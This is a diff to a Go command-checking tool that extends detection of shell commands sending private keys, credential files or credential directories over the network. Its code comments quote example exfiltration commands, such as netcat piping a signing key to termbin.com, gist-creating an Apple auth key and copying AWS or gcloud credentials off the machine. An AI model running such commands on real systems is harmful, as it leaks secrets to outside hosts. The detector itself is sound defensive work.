@@ -3270,6 +3270,10 @@ func sendsSecret(iv *inv) {
 		return
 	}
 	args := iv.rest(1)
+	if iv.in.kind == srcFile && namedSecret(iv.in.text) && !storesSecrets(args) { // nc termbin.com 9999 < keys/signing.pem
+		iv.flag(Destructive, iv.name+" sends a private key or credentials file over the network: "+iv.in.text)
+		return
+	}
 	dest, leaves := sendTargets(iv.name, args)
 	for i, a := range args {
 		if i > 0 && args[i-1].ok && keyOpts[args[i-1].s] {
@@ -3288,6 +3292,9 @@ func sendsSecret(iv *inv) {
 			return
 		case a.ok && iv.secretFile(strings.TrimPrefix(strings.TrimPrefix(a.s, "@"), "<")):
 			iv.flag(Destructive, iv.name+" sends a secrets file over the network: "+a.s)
+			return
+		case leaves && i != dest && iv.sendsKeyFile(args, i): // gh gist create keys/AuthKey.p8, rsync wp-config.php host:x
+			iv.flag(Destructive, iv.name+" sends a private key or credentials file over the network: "+a.s)
 			return
 		case a.ok && leaves && i != dest && !strings.HasPrefix(a.s, "-") && iv.secretDir(iv.sc, a.s): // rclone copy ~/.config/gcloud remote:x
 			iv.flag(Destructive, iv.name+" sends a directory of credentials over the network: "+a.s)
@@ -3362,11 +3369,12 @@ func uploadsSecret(iv *inv) {
 	if (tool == "docker" || tool == "podman") && at(strs0(args), 0) == "cp" {
 		tool = "kubectl" // docker cp ~/.aws/credentials app:/tmp: into a container, shared with what runs there
 	}
-	remote := false
+	remote, url := false, false
 	for _, a := range args {
+		url = url || remoteURL.MatchString(a.s) || !a.ok && remoteURL.MatchString(strings.TrimLeft(a.src, `"'`)) // gs://b/run-$(date +%F).ipynb: the place is literal
 		remote = remote || a.ok && (remoteURL.MatchString(a.s) || (tool == "kubectl" || tool == "oc") && remotePath(tool, a.s))
 	}
-	if !remote {
+	if !remote && !url {
 		return
 	}
 	dest, _ := sendTargets(iv.name, args)
@@ -3375,11 +3383,69 @@ func uploadsSecret(iv *inv) {
 			iv.flag(Destructive, iv.name+" sends a secrets file off the machine: "+a.s)
 			return
 		}
+		if url && (i != dest && iv.sendsKeyFile(args, i) || !a.ok && iv.substReadsSecret(a.src)) { // papermill nb.ipynb gs://b/out.ipynb -p key "$(cat keys/sa.json)"
+			iv.flag(Destructive, iv.name+" sends a private key or credentials file to a place off the machine: "+a.shown())
+			return
+		}
 		if a.ok && i != dest && !strings.HasPrefix(a.s, "-") && !remoteURL.MatchString(a.s) && iv.secretDir(iv.sc, a.s) {
 			iv.flag(Destructive, iv.name+" sends a directory of credentials off the machine: "+a.s)
 			return
 		}
 	}
+}
+
+// sendsKeyFile reports whether args[i], which a tool sends off the
+// machine, names a private key or a credentials file (namedSecret), in
+// the working tree too: not an option, nor the value of an option that
+// uses a key or names where output goes (--key-file, --cert, -o), nor a
+// place on another machine, nor a file handed to a store of secrets (gh
+// secret set, gcloud secrets versions add), which is where keys belong.
+func (iv *inv) sendsKeyFile(args []arg, i int) bool {
+	a := args[i]
+	w := strings.TrimPrefix(a.s, "@")
+	if !a.ok || w == "" || strings.HasPrefix(w, "-") || strings.Contains(w, ":") || i > 0 && args[i-1].ok && keyUseOpt(args[i-1].s) {
+		return false
+	}
+	return namedSecret(iv.c.tilde(w)) && !storesSecrets(args)
+}
+
+// keyUseOpt is an option whose value a tool uses as a key or writes to,
+// by its name: -i, --key-file, --service-account, --cert, -o, --output.
+func keyUseOpt(o string) bool {
+	if !strings.HasPrefix(o, "-") || strings.Contains(o, "=") {
+		return false
+	}
+	if keyOpts[o] || o == "-O" || o == "-P" || o == "-k" {
+		return true
+	}
+	o = strings.ToLower(o)
+	for _, w := range []string{"key", "cert", "cred", "ident", "account", "token", "secret", "auth", "pass", "config", "out", "dest", "save"} {
+		if strings.Contains(o, w) {
+			return true
+		}
+	}
+	return false
+}
+
+// storesSecrets reports whether a tool's first words (after its name) name
+// a store of secrets it puts what it is given into: gh secret set, glab
+// variable set, gcloud secrets versions add, aws secretsmanager, az
+// keyvault secret set, gcloud kms encrypt.
+func storesSecrets(args []arg) bool {
+	n := 0
+	for _, a := range args {
+		if !a.ok || strings.HasPrefix(a.s, "-") {
+			continue
+		}
+		switch a.s {
+		case "secret", "secrets", "secretsmanager", "variable", "keyvault", "kms":
+			return true
+		}
+		if n++; n == 3 {
+			break
+		}
+	}
+	return false
 }
 
 // sendTargets says where a network tool that copies writes: the index in
